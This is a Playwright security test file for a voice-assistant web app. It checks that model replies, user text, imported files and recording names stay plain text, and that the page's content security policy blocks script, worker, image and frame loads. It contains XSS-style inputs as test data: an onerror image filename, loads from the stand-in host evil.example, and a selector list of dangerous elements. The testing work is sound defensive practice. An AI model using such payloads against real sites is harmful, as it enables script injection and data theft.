import { join } from "node:path";
import type { Page } from "@playwright/test";
import { assistant } from "./support/assistant.ts";
import { violations } from "./support/axe.ts";
import { batches, payloads } from "./support/payloads.ts";
import { setTrap, type Trap, watchDamage } from "./support/trap.ts";
import { test as base, expect } from "./support/visit.ts";
import { record, silence, speech } from "./support/wav.ts";

const test = base.extend<{ trap: Trap }>({
  trap: async ({}, use) => {
    const trap = await setTrap();
    await use(trap);
    await trap.close();
  },
});

const HARMLESS = { dialogs: [], requests: [], ran: undefined, violations: [] as string[] };
/** Elements that only a payload makes. */
const MADE =
  ":is(script,img,iframe,object,embed,style,link,meta,base,video,audio,math,marquee,[onerror],[onload],[onclick])";
const SAMPLE = `# Harare

Iguta **guru** re*Zimbabwe*, \`HRE\`. [Verenga](https://evil.example/harare?q=secret)

- rekutanga
- rechipiri

| guta | vanhu |
|---|---|
| Harare | 1 500 000 |

> Zano

\`\`\`
let a = 1;
\`\`\``;

test("nothing that a model writes runs, reaches out, or becomes more than text and links", async ({ visit, trap }) => {
  expect(payloads.length).toBeGreaterThanOrEqual(105);
  const { page, errors } = await visit({ grant: false, args: trap.args });
  await assistant(page).is("idle", 60_000);
  const damage = await watchDamage(page);
  for (const batch of batches()) {
    await reply(
      page,
      batch.map(({ text }) => text),
    );
    expect(await page.evaluate(beyondMarkdown)).toEqual([]);
    await page
      .locator("inzwa-markdown a")
      .first()
      .hover({ force: true, timeout: 1_000 })
      .catch(() => undefined);
  }
  // Timers, refreshes and animations need a moment to do harm.
  await page.waitForTimeout(1_000);
  const { dialogs, requests } = damage;
  expect({ dialogs, requests, ...(await damage.inPage()) }).toEqual(HARMLESS);
  expect(trap.connections()).toBe(0);
  expect(errors).toEqual([]);
});

test("the same, said by a person, in a pack's name, a question or a message of trouble, is plain text", async ({
  visit,
  trap,
}) => {
  const { page, errors } = await visit({ grant: false, args: trap.args });
  await assistant(page).is("idle", 60_000);
  const damage = await watchDamage(page);
  await everywhere(page, ["a", "b"]);
  for (const batch of batches()) {
    const texts = batch.map(({ text }) => text);
    await everywhere(
      page,
      texts.map(() => "mhoro"),
    );
    const before = await page.evaluate(structure);
    await everywhere(page, texts);
    expect(await page.evaluate(structure)).toEqual(before);
    expect(await page.locator('[data-role="user"][data-final]').count()).toBe(texts.length);
    for (const text of texts)
      expect(await page.evaluate(standsAsWritten, text), `${JSON.stringify(text)} stands as written`).toBe(true);
  }
  const { dialogs, requests } = damage;
  expect({ dialogs, requests, ...(await damage.inPage()) }).toEqual(HARMLESS);
  expect(trap.connections()).toBe(0);
  expect(errors).toEqual([]);
});

test("what a file brings is plain text: conversations from elsewhere, and names of recordings", async ({
  visit,
  trap,
}) => {
  const { page, errors } = await visit({ grant: false, args: trap.args });
  await assistant(page).is("idle", 60_000);
  const damage = await watchDamage(page);
  await page.evaluate(() => {
    location.hash = "#history";
  });
  const turns = payloads.map(({ text }, i) => ({
    asked: text,
    answered: text,
    id: i + 1,
    at: i,
    heard: 0,
    outcome: "done",
  }));
  const titled = payloads.filter(({ text }) => text.length <= 120 && !/[\n\t\0]|\s{2}/.test(text)).slice(0, 20);
  const talks = titled.map(({ text }, i) => ({
    id: `x-${i}`,
    begun: i,
    changed: i,
    title: text,
    pinned: i === 0,
    language: "sn",
    turns: i === 0 ? turns : turns.slice(i, i + 1),
  }));
  const file = Buffer.from(JSON.stringify({ format: "inzwa-talks", version: 1, talks }));
  const choose = page.locator("[data-action=history-import]");
  await choose.setInputFiles({
    name: "<img src=x onerror=globalThis.ran=1>.json",
    mimeType: "application/json",
    buffer: file,
  });
  await expect(page.locator("[data-talk]")).toHaveCount(talks.length);
  for (const { title } of talks) await expect(page.locator("inzwa-history")).toContainText(title.trim());
  await expect(page.locator(`inzwa-history ${MADE}`)).toHaveCount(0);
  await page.locator("[data-talk=x-0] a").first().click();
  await expect(page.locator("[data-turn]")).toHaveCount(turns.length);
  await expect(page.locator(`inzwa-history ${MADE}`)).toHaveCount(0);

  await page.evaluate(() => {
    location.hash = "#transcribe";
  });
  const names = titled.map(({ text }) => text).filter((text) => !/[/\\:]/.test(text));
  const recordings = names.map((name) => ({ name, mimeType: "audio/wav", buffer: Buffer.from("no sound") }));
  await page.locator("[data-action=transcribe-choose]").setInputFiles(recordings);
  await expect(page.locator("[data-file]")).toHaveCount(names.length);
  for (const name of names) await expect(page.locator("inzwa-transcribe")).toContainText(name.trim());
  await expect(page.locator(`inzwa-transcribe ${MADE}`)).toHaveCount(0);
  const { dialogs, requests } = damage;
  expect({ dialogs, requests, ...(await damage.inPage()) }).toEqual(HARMLESS);
  expect(trap.connections()).toBe(0);
  expect(errors).toEqual([]);
});

test("a link says where it leads, waits for a click, and then opens without a trace of us", async ({ visit, trap }) => {
  const { page, context } = await visit({ grant: false, args: trap.args });
  await assistant(page).is("idle", 60_000);
  await reply(page, [SAMPLE]);
  const link = page.locator("inzwa-markdown a");
  await expect(link).toHaveText("Verenga (evil.example)");
  await expect(link).toHaveAttribute("rel", "noopener noreferrer");
  await link.hover();
  await link.focus();
  await page.waitForTimeout(500);
  expect(trap.connections()).toBe(0);
  const [opened] = await Promise.all([context.waitForEvent("page"), link.click()]);
  await expect.poll(() => trap.connections(), "the trap does see who comes").toBeGreaterThan(0);
  expect(await opened.evaluate(() => window.opener)).toBe(null);
});

for (const dark of [false, true])
  for (const width of [360, 1440])
    test(`a reply is shown as it was meant, ${width} px, ${dark ? "dark" : "light"}`, async ({ visit }) => {
      const { page } = await visit({ grant: false, dark, viewport: { width, height: 740 } });
      await assistant(page).is("idle", 60_000);
      expect(await page.evaluate(rendererFetched)).toBe(false);
      await reply(page, ["Mhoro, wakadii?"]);
      expect(await page.evaluate(rendererFetched), "plain words need no renderer").toBe(false);
      await reply(page, [SAMPLE]);
      expect(await page.evaluate(rendererFetched)).toBe(true);
      for (const [tag, text] of [
        ["h3", "Harare"],
        ["strong", "guru"],
        ["em", "Zimbabwe"],
        ["p code", "HRE"],
        ["li", "rekutanga"],
        ["td", "Harare"],
        ["blockquote", "Zano"],
        ["pre code", "let a = 1;"],
      ] as const)
        await expect(page.locator(`inzwa-markdown ${tag}`).first()).toContainText(text);
      expect(await violations(page)).toEqual([]);
      expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0);
      await page.screenshot({ path: test.info().outputPath("reply.png") });
    });

for (const headers of [true, false])
  test(`a script that got in would get nowhere, ${headers ? "by the host's headers" : "by the page and its service worker"}`, async ({
    visit,
  }) => {
    const { page } = await visit({ grant: false, headers, path: "/sub/" });
    const inzwa = assistant(page);
    await inzwa.is("idle", 60_000);
    expect(await page.evaluate(attempts)).toEqual(REFUSED);
    const sent = await page.evaluate(async () => (await fetch(location.href)).headers.get("content-security-policy"));
    expect(sent).toContain("require-trusted-types-for 'script'");
    await inzwa.ask("mhoro");
    await inzwa.is("speaking");
    const stages = page.workers().filter((worker) => /\/worker-stage-/.test(worker.url()));
    expect(stages.length).toBeGreaterThan(0);
    for (const stage of stages)
      expect(await stage.evaluate(attemptsOfWorker)).toEqual({ eval: "refused", foreign: "refused", blob: "refused" });
  });

test("a spoken turn needs nothing that the policy forbids, and leaves no sound behind", async ({ visit, folder }) => {
  const microphone = record(join(folder, "q.wav"), silence(1), speech("09.wav"), silence(6));
  const { page } = await visit({ microphone });
  const inzwa = assistant(page);
  const told: string[] = [];
  page.on("console", (message) => told.push(message.text()));
  await page.reload();
  await inzwa.is("idle", 60_000);
  await expect(inzwa.app).toHaveAttribute("data-offline", "ready", { timeout: 60_000 });
  const before = await page.evaluate(binaries);
  expect(before.length, "models are found where they are kept").toBeGreaterThan(0);
  await inzwa.talk.click();
  await inzwa.is("speaking");
  await inzwa.is("listening");
  await inzwa.stop.click();
  await inzwa.is("idle");
  expect((await page.evaluate(binaries)).filter((entry) => !before.includes(entry))).toEqual([]);
  expect(told.filter((text) => /Content Security Policy|Trusted|Permissions|violat/i.test(text))).toEqual([]);
});

const REFUSED = Object.fromEntries(
  [
    "html",
    "eval",
    "function",
    "script",
    "inline",
    "image",
    "frame",
    "policy",
    "foreign",
    "blob",
    "data",
    "other folder",
  ].map((name) => [name, "refused"]),
);

/** Shows texts as replies that are over, and waits until each stands as it will stay. */
async function reply(page: Page, texts: readonly string[]): Promise<void> {
  await show(page, {
    captions: texts.map((text, i) => ({ id: `${i}-${text.length}-assistant`, role: "assistant", text, final: true })),
  });
  await expect(page.locator("inzwa-markdown")).toHaveCount(texts.length);
  await expect
    .poll(() => page.locator("inzwa-markdown:not([data-rendered])").allTextContents(), { timeout: 15_000 })
    .toEqual([]);
}

/** Shows texts wherever the page shows a person's words, a file's or an error's. */
async function everywhere(page: Page, texts: readonly string[]): Promise<void> {
  const [first = ""] = texts;
  await show(page, {
    captions: texts.map((text, i) => ({ id: `${i}-user`, role: "user", text, final: true })),
    pack: { name: first, tag: "sn", synthetic: true, hints: texts },
    failure: { code: "bug", message: first },
    question: undefined,
    details: texts,
    version: first,
  });
}

/** The app's own news would take back what is shown here, so from the first time on it is not listened to. */
async function show(page: Page, change: Record<string, unknown>): Promise<void> {
  await page.evaluate(async (more) => {
    const app = document.querySelector("inzwa-app") as HTMLElement & {
      view: Record<string, unknown>;
      updateComplete: Promise<unknown>;
    };
    const { get, set } = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(app), "view") ?? {};
    Object.defineProperty(app, "view", { configurable: true, ...(get && { get }), set: () => {} });
    set?.call(app, { ...app.view, ...more });
    await app.updateComplete;
    for (const element of app.querySelectorAll<HTMLElement & { updateComplete?: Promise<unknown> }>("*"))
      await element.updateComplete;
  }, change);
}

/** Runs in the page: what stands in a reply and should not. */
function beyondMarkdown(): string[] {
  const tags = "p br strong em code pre blockquote ul ol li h3 h4 h5 h6 table thead tbody tr th td a span".split(" ");
  const found: string[] = [];
  for (const element of document.querySelectorAll("inzwa-markdown *")) {
    const { localName, namespaceURI } = element;
    if (!tags.includes(localName) || namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      const fine =
        localName === "a"
          ? (name === "href" && /^https:\/\/[^@]*$/.test(value)) ||
            (name === "target" && value === "_blank") ||
            (name === "rel" && value === "noopener noreferrer")
          : localName === "span" &&
            name === "class" &&
            value === "link-host" &&
            element.parentElement?.localName === "a";
      if (!fine) found.push(`${name}=${value} in ${element.outerHTML}`);
    }
  }
  return found;
}

/** Runs in the page: its elements by name and attributes' names. */
function structure(): Record<string, number> {
  const count: Record<string, number> = {};
  for (const element of document.querySelectorAll("*")) {
    const name = [element.localName, ...element.getAttributeNames().sort()].join(" ");
    count[name] = (count[name] ?? 0) + 1;
  }
  return count;
}

/** Runs in the page. */
function standsAsWritten(text: string): boolean {
  return [...document.querySelectorAll('[data-role="user"]')].some((caption) => caption.textContent?.includes(text));
}

/** Runs in the page. */
function rendererFetched(): boolean {
  return performance.getEntriesByType("resource").some(({ name }) => /\/markdown-[^/]*\.js$/.test(name));
}

/** Runs in the page: what a script that got in would try next. */
async function attempts(): Promise<Record<string, string>> {
  const tried: Record<string, string> = {};
  // The browser lets the debugger's own call use eval; a later one is the page's.
  await new Promise((resolve) => setTimeout(resolve));
  const attempt = (name: string, run: () => unknown) => {
    try {
      run();
      tried[name] = "done";
    } catch {
      tried[name] = "refused";
    }
  };
  const stopped = (directive: string, run: () => void) =>
    new Promise<string>((resolve) => {
      const listener = ({ violatedDirective }: SecurityPolicyViolationEvent) => {
        if (violatedDirective.startsWith(directive)) resolve("refused");
      };
      document.addEventListener("securitypolicyviolation", listener);
      setTimeout(() => resolve("done"), 2_000);
      try {
        run();
      } catch {
        resolve("refused");
      }
    });
  attempt("html", () => {
    document.createElement("p").innerHTML = "<b>x</b>";
  });
  // biome-ignore lint/security/noGlobalEval: it has to fail
  attempt("eval", () => globalThis.eval("1"));
  attempt("function", () => new Function("return 1"));
  attempt("script", () => {
    document.createElement("script").src = "https://evil.example/x.js";
  });
  const types = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } })
    .trustedTypes;
  attempt("policy", () => types.createPolicy("another", {}));
  attempt("foreign", () => new Worker("https://evil.example/w.js"));
  attempt("blob", () => new Worker(URL.createObjectURL(new Blob([""]))));
  attempt("data", () => new Worker("data:text/javascript,"));
  attempt("other folder", () => new Worker("/elsewhere.js"));
  tried.inline = await stopped("script-src", () => document.body.setAttribute("onclick", "1"));
  tried.image = await stopped("img-src", () => {
    new Image().src = "https://evil.example/i.png";
  });
  tried.frame = await stopped("frame-src", () => {
    const frame = document.createElement("iframe");
    frame.src = "https://evil.example/";
    document.body.append(frame);
    frame.remove();
  });
  return tried;
}

/** Runs in a worker. */
async function attemptsOfWorker(): Promise<Record<string, string>> {
  const tried: Record<string, string> = {};
  await new Promise((resolve) => setTimeout(resolve));
  const attempt = (name: string, run: () => unknown) => {
    try {
      run();
      tried[name] = "done";
    } catch {
      tried[name] = "refused";
    }
  };
  // biome-ignore lint/security/noGlobalEval: it has to fail
  attempt("eval", () => globalThis.eval("1"));
  attempt("foreign", () => new Worker("https://evil.example/w.js"));
  attempt("blob", () => new Worker(URL.createObjectURL(new Blob([""]))));
  return tried;
}

/** Runs in the page: everything but text that any of its stores holds, by place and size. */
async function binaries(): Promise<string[]> {
  const found: string[] = [];
  const look = (value: unknown, place: string): void => {
    if (value instanceof Blob) found.push(`${place} ${value.type} ${value.size}`);
    else if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) found.push(`${place} ${value.byteLength}`);
    else if (value && typeof value === "object")
      for (const [key, inner] of Object.entries(value)) look(inner, `${place}.${key}`);
  };
  const done = <T>(request: IDBRequest<T>) =>
    new Promise<T>((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });
  for (const { name = "" } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const all = database.transaction(store).objectStore(store);
      const [keys, values] = await Promise.all([done(all.getAllKeys()), done(all.getAll())]);
      values.forEach((value: unknown, i) => {
        look(value, `${name}/${store}/${JSON.stringify(keys[i])}`);
      });
    }
    database.close();
  }
  for (const name of await caches.keys())
    for (const { url } of await (await caches.open(name)).keys()) found.push(`cache ${name} ${url}`);
  const walk = async (folder: FileSystemDirectoryHandle, path: string): Promise<void> => {
    for await (const [name, handle] of folder as unknown as AsyncIterable<[string, FileSystemHandle]>)
      if (handle instanceof FileSystemDirectoryHandle) await walk(handle, `${path}/${name}`);
      else if (handle instanceof FileSystemFileHandle) found.push(`${path}/${name} ${(await handle.getFile()).size}`);
  };
  await walk(await navigator.storage.getDirectory(), "files");
  for (let i = 0; i < localStorage.length; i++) {
    const key = localStorage.key(i) ?? "";
    if ((localStorage.getItem(key) ?? "").length > 2_000) found.push(`local ${key}`);
  }
  return found;
}
